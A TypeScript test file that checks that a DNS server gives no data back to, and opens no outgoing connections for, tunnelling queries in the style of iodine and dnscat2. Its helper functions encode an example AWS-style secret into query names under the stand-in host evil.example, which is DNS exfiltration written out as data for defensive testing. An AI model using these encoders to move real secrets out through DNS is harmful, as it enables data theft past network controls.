/** Nothing leaves through the name server: tunnelling tools find no channel, and the process has no way out. */
import assert from 'node:assert/strict';
import { fork } from 'node:child_process';
import { createHash } from 'node:crypto';
import { once } from 'node:events';
import { type TestContext, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import type { Suspicion } from '../../src/dns/tunnelling.ts';
import { framed, tcpClient, type UdpClient, udpClient } from './client.ts';
import { A, AAAA, ANY, HTTPS, NULL, optBytes, queryBytes, readReply, TXT } from './wire.ts';

interface Report {
  readonly resources: readonly string[];
  readonly destinations: readonly string[];
  readonly localPorts: readonly number[];
  readonly suspicions: readonly Suspicion[];
}

async function watchedServer(t: TestContext) {
  const file = fileURLToPath(new URL('watched-server.ts', import.meta.url));
  const child = fork(file, { execArgv: [] });
  t.after(async () => {
    const ended = once(child, 'exit');
    child.kill('SIGKILL');
    await ended;
  });
  const told = async () => ((await once(child, 'message')) as [unknown])[0];
  const { port } = (await told()) as { port: number };
  return {
    port,
    report(): Promise<Report> {
      const answer = told();
      child.send('report');
      return answer as Promise<Report>;
    },
  };
}

const SECRET = 'AKIAIOSFODNN7EXAMPLE:wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY';
const BASE32 = 'abcdefghijklmnopqrstuvwxyz012345';

/** Upstream frames as iodine makes them: a command letter, then the data in base32, in labels of at most 57. */
function iodineNames(data: Buffer, domain: string): string[] {
  const letters = [...data].map((byte, at) => BASE32[(byte + at) % 32]).join('');
  return Array.from({ length: 60 }, (_, n) => {
    const frame = `0${n.toString(16)}${letters.slice(n % 20)}${letters}${letters}`.slice(0, 170);
    return `${(frame.match(/.{1,57}/g) ?? []).join('.')}.${domain}`;
  });
}

/** Packets as dnscat2 makes them: id, type and payload in hexadecimal, in labels of at most 60. */
function dnscatNames(data: Buffer, domain: string): string[] {
  return Array.from({ length: 60 }, (_, n) => {
    const id = createHash('sha256').update(String(n)).digest('hex').slice(0, 18);
    return `${`${id}${data.toString('hex')}`.slice(0, 110).replace(/.{60}/g, '$&.')}.${domain}`;
  });
}

/** Asks and makes sure that nothing but the question itself comes back. */
async function asksForNothing(client: UdpClient, name: string, type: number): Promise<void> {
  const query = queryBytes({ name, type, behind: optBytes() });
  const reply = readReply(await client.ask(query));
  assert.ok(reply.rcode === 3 || reply.rcode === 5, `${name} ${type}: ${reply.rcode}`);
  assert.deepEqual(reply.answers, []);
  for (const record of [...reply.authorities, ...reply.additional]) assert.equal(record.owner, '');
}

test('tunnels in the manner of iodine and dnscat2 get no data back and reach nobody', async (t) => {
  const { port, report } = await watchedServer(t);
  const client = udpClient(t, port);
  const tcp = await tcpClient(t, port);
  const data = Buffer.from(SECRET);
  for (const name of iodineNames(data, 't.evil.example')) {
    for (const type of [NULL, 65_399, TXT, 33, 15, 5, A]) await asksForNothing(client, name, type);
  }
  for (const name of dnscatNames(data, 'evil.example')) {
    for (const type of [TXT, 5, 15, A, AAAA, ANY, HTTPS]) await asksForNothing(client, name, type);
    tcp.socket.write(framed(queryBytes({ name, type: TXT })));
    assert.equal(readReply((await tcp.next()) ?? Buffer.alloc(0)).rcode, 5);
  }
  // The raw mode of iodine, which is no DNS at all, and a secret in every field that is free.
  client.send(Buffer.concat([Buffer.from('10d19e00', 'hex'), data]));
  client.send(
    queryBytes({
      name: 'a.evil.example',
      behind: optBytes(Buffer.concat([Buffer.of(0, 10, 0, data.length), data])),
    }),
  );
  await client.ask(queryBytes({ name: 'api.example.com' }));

  const { resources, destinations, localPorts, suspicions } = await report();
  const outgoing =
    /GETADDRINFO|GETNAMEINFO|QUERYWRAP|DNSCHANNEL|CONNECT|^UDPWRAP|PROCESSWRAP|HTTP|TLSWRAP|WORKER/;
  assert.deepEqual(
    resources.filter((type) => outgoing.test(type)),
    [],
  );
  assert.ok(resources.includes('TCPWRAP'), 'the watch sees what is made');
  assert.equal(destinations.length, 1);
  assert.match(destinations[0] ?? '', /^127\.0\.0\.1 \d+$/);
  assert.ok(localPorts.length >= 3, 'two sockets that listen and one that was accepted');
  assert.deepEqual([...new Set(localPorts)], [port]);
  assert.ok(suspicions.length >= 1 && suspicions.length <= 2);
  assert.deepEqual([...new Set(suspicions.map(({ parent }) => parent))], ['evil.example']);
});
